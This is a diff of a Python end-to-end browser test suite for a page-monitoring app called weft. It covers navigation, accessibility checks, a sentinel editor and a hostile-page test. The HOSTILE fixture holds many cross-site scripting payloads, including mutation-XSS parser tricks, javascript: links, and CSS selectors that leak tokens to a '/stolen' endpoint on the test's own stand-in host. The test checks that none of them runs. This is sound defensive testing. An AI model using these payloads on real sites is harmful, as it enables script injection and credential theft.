@@ -1,6 +1,7 @@
 """weft's own pages in real Chromium: first run, adding, a change that comes in, differences, keys, phone width; without a complaint of the browser.
 
 Every page is checked by axe-core. WEFT_PICTURES names a folder for a screenshot of every page, light and dark, at 1280 and 390."""
+import json
 import os
 import sys
 import time
@@ -36,9 +37,7 @@ class Tab:
         self.page.size(1280, 900)
 
     def go(self, path):
-        self.page.eval('window.weftLeft = true')
-        self.page.call('Page.navigate', url=self.base + path)
-        self.arrived()
+        self.leave(lambda: self.page.call('Page.navigate', url=self.base + path))
 
     def wait(self, condition):
         """Until an expression is true, also while the page goes to another; False where it never is."""
@@ -49,17 +48,16 @@ class Tab:
                     return True
             except RuntimeError:  # the document that was asked is gone
                 pass
-            time.sleep(0.05)
+            time.sleep(0.01)
         return False
-
-    def arrived(self):
-        return self.wait('!window.weftLeft && document.readyState === "complete"')
 
     def leave(self, act):
         """An act that leads to another page."""
-        self.page.eval('window.weftLeft = true')
+        before, end = self.page.loads, time.monotonic() + PATIENCE
         act()
-        return self.arrived()
+        while self.page.loads == before and time.monotonic() < end:
+            self.page.browser.pump(.5)
+        return self.page.loads > before
 
     def fill(self, selector, text):
         self.page.eval(f'document.querySelector({selector!r}).value = {text!r}')
@@ -106,9 +104,12 @@ def diff_views(tab):
     tab.leave(lambda: tab.page.eval('document.querySelector(".row.cur .row-h a").click()'))
     point('/diff' in tab.page.eval('location.pathname'), 'its headline leads to the difference')
     views = tab.page.eval('Array.from(document.querySelectorAll(".views a")).map(a => a.getAttribute("href"))')
-    equal(len(views), 6, 'six views')
+    equal(len(views), 7, 'six views, and why')
     for view in views:
         tab.go(view)
+        if '/why?' in view:
+            point('Six measures' in tab.text(), 'the numbers of a difference', tab.text())
+            continue
         frame = tab.page.eval('document.querySelector("#shown").src')
         point(frame.startswith('http://127.0.0.1:') and not frame.startswith(tab.base), f'{view}: the page has another origin', frame)
         outside = tab.page.eval('(function () { try { return !!document.querySelector("#shown").contentDocument; } catch (e) { return false; } })()')
@@ -138,34 +139,80 @@ def keys(tab):
 
 # The sanitizers have nothing to say of what axe-core reads: one run of it is enough.
 AXE = '' if harness.SANITIZED else open(os.path.join(HERE, '..', '..', 'build', 'deps', 'axe-core', 'axe.min.js'), encoding='utf-8').read() + ';'
-AXE_SCHEMES = ('light', 'dark') if AXE else ()
-PAGES = ('/', '/pages', '/add', '/page/1', '/page/1/settings', '/page/1/diff?a=1&b=2', '/page/1/version/1', '/held', '/sentinels', '/sentinels/new', '/channels', '/status', '/settings')
+PAGES = ('/', '/pages', '/add', '/page/1', '/page/1/settings', '/page/1/diff?a=1&b=2', '/page/1/why?a=1&b=2', '/page/1/version/1', '/held', '/sentinels', '/sentinels/new',
+         '/sentinels/dearer', '/channels', '/status', '/settings')
+
+
+def check_page(tab, path, width, faults):
+    """What axe-core finds: all of its rules in light colours, those about colours in dark ones, and the others on a phone."""
+    colours = ['color-contrast', 'link-in-text-block']
+    no_colours = '{ rules: { "color-contrast": { enabled: false } } }'
+    for scheme, rules in (('light', '{}'), ('dark', json.dumps({'runOnly': colours}))) if width == 1280 else (('light', no_colours),):
+        tab.page.scheme(scheme)
+        found = tab.page.eval(f'axe.run({rules}).then(r => r.violations.map(v => v.id + ": " + v.nodes.map(n => n.html).join(" | ")))')
+        faults += [f'{path} at {width}, {scheme}: {fault}' for fault in found]
+
+
+def take_pictures(tab, folder, path, width):
+    for scheme in ('light', 'dark'):
+        tab.page.scheme(scheme)
+        time.sleep(.6 if 'diff' in path else .1)
+        tab.page.screenshot(os.path.join(folder, f'{path.strip("/").replace("/", "-").split("?")[0] or "new"}-{width}-{scheme}.png'))
 
 
 def widths(tab):
-    folder = os.environ.get('WEFT_PICTURES')
-    for width in (1280, 390, 320) if folder or AXE else (1280, 320):
-        tab.page.size(width, 900)
-        for path in PAGES:
-            tab.go(path)
+    folder, faults = os.environ.get('WEFT_PICTURES'), []
+    for path in PAGES:
+        tab.page.size(1280, 900)
+        tab.go(path)
+        if AXE:
+            tab.page.eval(AXE)
+        for width in (1280, 390, 320):
+            tab.page.size(width, 900)
             wide = tab.page.eval('document.documentElement.scrollWidth')
             point(wide <= width, f'{path}: nothing is scrolled sideways at {width}', wide)
-            for scheme in AXE_SCHEMES if width != 320 else ():
-                tab.page.scheme(scheme)
-                faults = tab.page.eval(AXE + 'axe.run().then(r => r.violations.map(v => v.id + ": " + v.nodes.map(n => n.html).join(" | ")))')
-                equal(faults, [], f'{path}: axe-core finds nothing at {width}, {scheme}')
-            for scheme in ('light', 'dark') if folder and width != 320 else ():
-                tab.page.scheme(scheme)
-                time.sleep(.6 if 'diff' in path else .1)
-                tab.page.screenshot(os.path.join(folder, f'{path.strip("/").replace("/", "-").split("?")[0] or "new"}-{width}-{scheme}.png'))
-            tab.page.scheme('light')
+            if AXE and width != 320:
+                check_page(tab, path, width, faults)
+            if folder and width != 320:
+                take_pictures(tab, folder, path, width)
+        tab.page.scheme('light')
+    equal(faults, [], f'axe-core finds nothing on {len(PAGES)} pages' if AXE else 'axe-core was asked elsewhere')
     tab.page.size(1280, 900)
+
+
+def sentinels(tab, site):
+    """One written with an error and mended by a click, completed, and the form that writes the same."""
+    tab.go('/sentinels/new')
+    write = 'document.querySelector("#text").value = %r; document.querySelector("#text").dispatchEvent(new Event("input"))'
+    tab.page.eval(write % f'CREATE SENTINEL dearer ON "{site.url}/prices" MONITR keywords(euro) NOTIFY IMMEDIATE BY interactive;')
+    point(tab.wait('document.querySelector("#faults button")?.textContent === "Change to MONITOR" && document.querySelector("#save").disabled'),
+          'an error is said while one types, and Save waits', tab.text())
+    tab.page.click('#faults button')
+    point(tab.wait('!document.querySelector("#faults button") && !document.querySelector("#save").disabled'), 'a click mends it')
+    point(tab.wait('document.querySelector("#rules select").value === "keywords" && document.querySelector("#rules input").value === "euro"'),
+          'the form follows the text')
+    point(tab.page.eval('document.querySelectorAll("#graph svg rect").length') == 3, 'and so does the graph')
+    tab.page.eval('(function () { var box = document.querySelector("#rules input"); box.value = "euro, pound"; box.dispatchEvent(new Event("input", { bubbles: true })); })()')
+    point(tab.wait('document.querySelector("#text").value.includes(\'keywords("euro", "pound")\')'), 'the text follows the form',
+          tab.page.eval('document.querySelector("#text").value'))
+    tab.page.eval('(function () { var t = document.querySelector("#text"); t.focus(); t.value += "DRO"; t.selectionStart = t.value.length;'
+                  't.dispatchEvent(new KeyboardEvent("keydown", { key: " ", ctrlKey: true, bubbles: true })); })()')
+    point(tab.wait('document.querySelector("#text").value.endsWith("DROP")'), 'Ctrl and Space complete a word', tab.page.eval('document.querySelector("#text").value'))
+    tab.page.eval('(function () { var t = document.querySelector("#text"); t.value = t.value.slice(0, -4); t.dispatchEvent(new Event("input")); t.blur(); })()')
+    point(tab.wait('!document.querySelector("#save").disabled && document.querySelector("#state").textContent === "No errors"'), 'without it there is no error')
+    tab.leave(lambda: tab.page.click('#save'))
+    equal(tab.page.eval('location.pathname'), '/sentinels/dearer', 'it is saved')
 
 
 HOSTILE = """<title>Hostile</title><script>fetch('{0}/pwned?1'); location = '{0}/pwned?2'; parent.postMessage({{weftKey: 's'}}, '*')</script>
 <p onclick="fetch('{0}/pwned?3')" id=shown class=toast>Words of {1} that change.</p><meta http-equiv=refresh content="0;url={0}/pwned?4"><img src=x onerror="fetch('{0}/pwned?5')">
 <form action="{0}/pwned?6"><input autofocus onfocus="this.form.submit()"></form><iframe src="{0}/pwned?7"></iframe><svg onload="fetch('{0}/pwned?8')"></svg>
-<object data="{0}/pwned?9"></object><base href="{0}/"><a href="javascript:fetch('{0}/pwned?10')">link</a><img src="{2}/sign-out"><p>And some words that stay.</p>"""
+<object data="{0}/pwned?9"></object><base href="{0}/"><a href="javascript:fetch('{0}/pwned?10')">link</a><img src="{2}/sign-out"><p>And some words that stay.</p>
+<svg><script>fetch('{0}/pwned?11')</script><animate onbegin="fetch('{0}/pwned?12')" attributeName=x dur=1s /><a href="javascript:fetch('{0}/pwned?13')"><text>x</text></a></svg>
+<noscript><p title="</noscript><img src=x onerror=fetch('{0}/pwned?14')>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('{0}/pwned?15')&gt;">
+</table></math><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="fetch('{0}/pwned?16')"></style></mglyph></form>
+<style>[name=t],[data-token],[href*="&s="],[src*="&s="],script[src],iframe{{background:url({0}/stolen?1)}} @import url("javascript:fetch('{0}/pwned?17')");</style>
+<h2><script>fetch('{0}/pwned?18')</script>Title &lt;img src=x onerror=fetch('{0}/pwned?19')&gt; of {1}</h2>"""
 
 
 def hostile_page(tab, site, server):
@@ -179,10 +226,11 @@ def hostile_page(tab, site, server):
     site.pages['/hostile'] = HOSTILE.format(site.url, 'second', tab.base)
     tab.page.eval(look)
     point(tab.wait(newest + '.then(n => n === 2)'), 'a hostile page is kept like others')
-    for path in ('version/1', 'diff?view=merged', 'diff?view=side', 'diff?view=changes', 'diff?view=blocks', 'diff?view=text', 'diff?view=source'):
-        tab.go(f'/page/{answer["id"]}/{path}')
-        time.sleep(.2)
-    equal(site.asked('/pwned') + [entry for entry in site.log if 'pwned' in entry[1]], [], 'nothing of it runs, in any view')
+    for path in ('version/1', '', 'why', 'settings', 'diff?view=merged', 'diff?view=side', 'diff?view=changes', 'diff?view=blocks', 'diff?view=text', 'diff?view=source'):
+        tab.go(f'/page/{answer["id"]}/{path}'.rstrip('/'))
+        time.sleep(.05)
+    equal([entry for entry in site.log if 'pwned' in entry[1]], [], 'nothing of it runs, in any view')
+    equal([entry for entry in site.log if 'stolen' in entry[1]], [], 'and its styles find nothing of weft’s to tell')
     tab.go('/')
     point('What’s new' in tab.text(), 'and the user is still signed in', tab.text())
     tab.page.log.clear()  # the browser says what it refused
@@ -191,8 +239,7 @@ def hostile_page(tab, site, server):
 
 def without_scripts(tab):
     tab.page.call('Emulation.setScriptExecutionDisabled', value=True)
-    tab.page.call('Page.navigate', url=tab.base + '/')
-    time.sleep(.5)
+    tab.go('/')
     text = tab.page.eval('document.body.innerText')
     point('Price list' in text and 'Mark all as seen' in text, 'without JavaScript the news are there', text)
     tab.page.call('Emulation.setScriptExecutionDisabled', value=False)
@@ -211,6 +258,7 @@ def main():
         see_change(tab, site, server)
         diff_views(tab)
         keys(tab)
+        sentinels(tab, site)
         widths(tab)
         without_scripts(tab)
         faults = [entry for entry in tab.page.log if not (AXE and 'postMessage' in entry)]  # axe asks the frame of the other origin
